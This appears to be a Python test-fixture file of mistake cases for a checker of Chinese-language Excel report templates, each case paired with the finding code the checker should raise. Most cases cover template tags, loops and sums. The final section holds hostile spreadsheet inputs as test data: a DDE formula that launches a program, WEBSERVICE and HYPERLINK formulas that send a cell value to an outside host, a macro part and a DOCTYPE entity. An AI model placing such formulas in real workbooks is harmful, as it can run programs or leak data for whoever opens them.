"""Mistakes in Excel templates, each with its one finding."""

from format_check_builders import FIELDS, Mistake, related, replaced, with_part, xlsx
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

LOOP = {
    "A1": "名称", "B1": "金额", "C1": "类别",
    "A2": "{%tr for 行 in 任务 %}",
    "A3": "{{ 行.名称 }}", "B3": "{{ 行.金额 | 万元 }}", "C3": "{{ 行.类别 }}",
    "A4": "{%tr endfor %}",
    "A5": "合计", "B5": "=SUM(B3:B3)",
}  # fmt: skip
"""A head, a loop over records that prints all their fields, a total."""
LEDGER = {
    "A2": '{%tr for 行 in 支出.按("功能科目") %}',
    "A3": "{{ 行.名称 }}",
    "B3": "{{ 行.金额() | 万元 }}",
    "A4": "{%tr endfor %}",
}


def loop(name, code, place, words="", arrange=None, **cells):
    cells = {reference: value for reference, value in {**LOOP, **cells}.items() if value != ""}
    return Mistake(name, code, place, words, excel=xlsx(cells, arrange), fields=FIELDS)


def excel(name, code, place, words="", arrange=None, fields="", **cells):
    return Mistake(name, code, place, words, excel=xlsx(cells, arrange), fields=fields)


def book(name, code, place, words, data):
    return Mistake(name, code, place, words, excel=data)


def merge(*ranges):
    def arrange(_, sheet):
        for item in ranges:
            sheet.merge_cells(item)

    return arrange


def area(_, sheet):
    sheet.print_area = "A1:A5"


def hidden_row(_, sheet):
    sheet.row_dimensions[1].hidden = True


def hidden_sheet(book, sheet):
    book.create_sheet("封面")
    sheet.sheet_state = "hidden"
    book.active = 1


def broken_name(book, _):
    book.defined_names["合计数"] = DefinedName("合计数", attr_text="'没有的表'!$A$1")


def array(_, sheet):
    sheet["D3"] = ArrayFormula("D3:D3", "=SUM(B3:B3*2)")


def covered_tag(book, sheet):
    # openpyxl blanks covered cells when it merges; Excel does not when a file is put together.
    sheet.merge_cells("A1:B1")
    sheet._cells[1, 2] = type(sheet["A1"])(sheet, row=1, column=2, value="{{ 年度 }}")


CASES = [
    # Names and tags
    excel("Excel 名称写错一个字", "L502", "「表」A1", "部们", A1="{{ 部们.名称 }}"),
    loop("Excel 循环里的属性写错", "L502", "「表」D3", "名字", D3="{{ 行.名字 }}"),
    loop("Excel 循环的列表写错", "L502", "「表」A12", "任物", A12="{%tr for 项目行 in 任物 %}",
         A13="{{ 项目行.名称 }}", A14="{%tr endfor %}"),
    excel("Excel 没有这种格式", "L503", "「表」B2", "万圆", B2="{{ 支出.合计 | 万圆 }}"),
    excel("Excel 条件的值没有一行会有", "L502", "「表」A1", "一般公共予算",
          A1='{{ 支出.金额(资金性质="一般公共予算") | 万元 }}'),
    excel("Excel 整列的表打印在一格", "L513", "「表」A1", "不能直接打印", A1='{{ 支出.按("功能科目") }}'),
    excel("全角的花括号在 Excel 里照印", "R710", "「表」A1", "全角", A1="｛｛ 部门.名称 ｝｝"),
    excel("开头全角结尾半角", "R710", "「表」A1", "全角", A1="｛{ 部门.名称 }}"),
    excel("百分号全角的控制标签", "R710", "「表」A1", "全角", A1="{％tr if 年度 ％}"),
    excel("Excel 标签没有闭合", "R710", "「表」A1", "缺少", A1="{{ 部门.名称 }"),
    excel("Excel 用段的标签", "R713", "「表」A1", "不能用", A1="{%p if 年度 %}"),
    excel("Excel 里不认识的控制标签", "R713", "「表」A1", "fro", A1="{%tr fro 行 in 任务 %}"),
    excel("Excel 一格里条件没有结束", "L501", "「表」A1", "写法不对", A1="{% if 年度 %}年"),
    excel("Excel 格式和单位不一致", "T111", "「表」A1", "万元", A1="合计{{ 支出.合计 | 元 }}万元"),
    excel("Excel 和表头的单位不一致", "T112", "「表」B2", "表头写“万元”", B1="单位：万元",
          B2="{{ 支出.合计 | 元 }}"),
    excel("百分数放进百分比格式的格子", "T113", "「表」A1", "9523%",
          arrange=lambda _, sheet: setattr(sheet["A1"], "number_format", "0.0%"),
          A1="{{ (支出.金额(类型='基本支出') / 支出.合计) | 百分比 }}"),
    excel("工作表名里的标签", "R704", "{{ 年度 }}", "工作表名",
          arrange=lambda _, sheet: setattr(sheet, "title", "{{ 年度 }}"), A1="甲"),
    excel("公式里的标签", "R704", "「表」A1", "公式", A1="={{ 年度 }}+1"),
    # Rows, columns, sheets that repeat
    excel("Excel 行循环没有结束", "R712", "「表」A1", "endfor", A1="{%tr for 行 in 支出.明细() %}",
          A2="{{ 行.金额 | 万元 }}"),
    excel("Excel 结束标签多了", "R712", "「表」A2", "for", A1="甲", A2="{%tr endfor %}"),
    loop("Excel 控制行里有别的字", "R711", "「表」B2", "备注", B2="备注"),
    loop("Excel 控制标签旁边有字", "R711", "「表」A4", "以上", A4="以上{%tr endfor %}"),
    loop("Excel 循环里没有行", "T104", "「表」A12", "没有内容", A12="{%tr for 甲 in 任务 %}",
         A13="{%tr endfor %}"),
    loop("Excel 循环没有用到循环的名称", "T103", "「表」A12", "甲", A12="{%tr for 甲 in 任务 %}",
         A13="{{ 部门.名称 }}", A14="{%tr endfor %}"),
    loop("列循环没有结束", "R716", "「表」D1", "endfor", D1="{%tc for 列 in 任务 %}"),
    excel("工作表循环没有写名称", "R718", "「表」A1", "名称", A1="{%sheet for 行 in 支出.明细() %}",
          A2="{{ 行.金额 | 万元 }}"),
    excel("工作表条件的名称写错", "L502", "「表」A1", "政府才购", A1="{%sheet if 政府才购 %}", A2="甲"),
    loop("合并单元格跨出循环", "R714", "「表」", "D3:D6", arrange=merge("D3:D6"), D3="备注"),
    excel("标签在合并单元格里面", "T130", "「表」B1", "A1:B1", arrange=covered_tag, A1="甲"),
    loop("纵向合并在循环外", "R717", "「表」A6", "vm", A6="{% vm %}甲"),
    # Sums and formulas
    loop("求和漏了循环里的另一种行", "T131", "「表」B9", "第 6 行",
         A3="{%tr if 行.类别 == '甲类' %}", B3="", C3="",
         A4="{{ 行.名称 }}", B4="{{ 行.金额 | 万元 }}", C4="{{ 行.类别 }}",
         A5="{%tr else %}", B5="", A6="{{ 行.名称 }}", B6="{{ 行.金额 | 万元 }}",
         A7="{%tr endif %}", A8="{%tr endfor %}", A9="合计", B9="=SUM(B4:B4)"),
    loop("求和漏了循环后面的一行", "T131", "「表」B6", "第 5 行", A5="其他", B5="{{ 支出.合计 | 万元 }}",
         A6="合计", B6="=SUM(B3:B3)"),
    loop("求和只取循环前的固定行", "T131", "「表」B7", "第 5 行",
         A2="上年结转", B2="{{ 支出.合计 | 万元 }}", A3="暂存", B3="{{ 支出.合计 | 万元 }}", C3="",
         A4="{%tr for 行 in 任务 %}", A5="{{ 行.名称 }}", B5="{{ 行.金额 | 万元 }}",
         C5="{{ 行.类别 }}", A6="{%tr endfor %}", A7="合计", B7="=SUM(B2:B3)"),
    excel("求和把类款项重复相加", "T132", "「表」B5", "各级科目", **LEDGER, A5="合计", B5="=SUM(B3:B3)"),
    loop("求和包住了小计", "T132", "「表」B7", "小计", A6="其他", B6="{{ 支出.合计 | 万元 }}",
         A5="小计", A7="合计", B7="=SUM(B3:B6)"),
    loop("公式引用循环里的一格", "T139", "「表」B6", "第一行", A6="首行", B6="=B3"),
    loop("公式引用印成文字的格", "T134", "「表」B6", "D3", D3="{{ 行.金额 | 万元 }}（估）", A6="估",
         B6="=SUM(D3:D3)"),
    excel("数写成了文字", "T133", "「表」B2", "1,200", B1=5, B2="1,200", B3="=SUM(B1:B2)"),
    loop("公式用文字拼出引用", "T135", "「表」C6", "INDIRECT", C6='=INDIRECT("B3")'),
    excel("公式引用自己", "R741", "「表」A3", "它自己", A1=1, A3="=SUM(A1:A3)"),
    excel("公式除以零", "T150", "「表」B1", "#DIV/0!", A1="{{ 支出.合计 | 万元 }}", B1="=1/A1"),
    excel("公式引用没有的工作表", "R744", "「表」A1", "没有的表", A1="=没有的表!A1"),
    loop("循环里的数组公式", "R715", "「表」D3", "数组公式", arrange=array, D1="甲"),
    loop("名称指到没有的表", "T136", "模板.xlsx", "合计数", arrange=broken_name),
    # What is not seen
    loop("标签在打印区域外", "T137", "「表」D1", "A1:A5", arrange=area, B3="", B5="", C3="",
         A3="{{ 行.名称 }}{{ 行.金额 | 万元 }}{{ 行.类别 }}", D1="{{ 年度 }}"),
    excel("标签在隐藏的行", "T138", "「表」A1", "隐藏的行", arrange=hidden_row, A1="{{ 年度 }}"),
    excel("标签在隐藏的工作表", "T138", "「表」A1", "隐藏的工作表", arrange=hidden_sheet, A1="{{ 年度 }}"),
    # What reaches outside
    excel("取网上内容的函数", "R702", "「表」A1", "WEBSERVICE", A1='=WEBSERVICE("http://a.cn")'),
    excel("拼出网址的链接函数", "R702", "「表」A1", "HYPERLINK", A1='=HYPERLINK("http://a.cn/?"&B1)'),
    excel("运行程序的公式", "R702", "「表」A1", "DDE", A1="=cmd|'/c calc'!A0"),
    excel("引用其他工作簿的公式", "R702", "「表」A1", "其他工作簿", A1="='[别的.xlsx]表1'!A1"),
    book("Excel 里的宏", "R702", "模板.xlsx", "宏", with_part(xlsx(A1="甲"), "xl/vbaProject.bin", "x")),
    book("外部数据连接", "R702", "模板.xlsx", "取数",
         with_part(xlsx(A1="甲"), "xl/connections.xml", "<connections/>")),
    book("外部链接的部件", "R702", "模板.xlsx", "外部链接",
         related(xlsx(A1="甲"), "xl/worksheets/sheet1.xml", "image", "http://a.cn/x.png")),
    book("链接到文件", "R702", "模板.xlsx", "file:",
         related(xlsx(A1="甲"), "xl/worksheets/sheet1.xml", "hyperlink", "file:///c:/x")),
    book("Excel 文档类型声明", "R701", "模板.xlsx", "文档类型",
         replaced(xlsx(A1="甲"), "xl/worksheets/sheet1.xml", "<worksheet",
                  '<!DOCTYPE x [<!ENTITY a "b">]><worksheet')),
    book("不是工作簿", "R701", "模板.xlsx", "打不开", b"hello"),
]  # fmt: skip
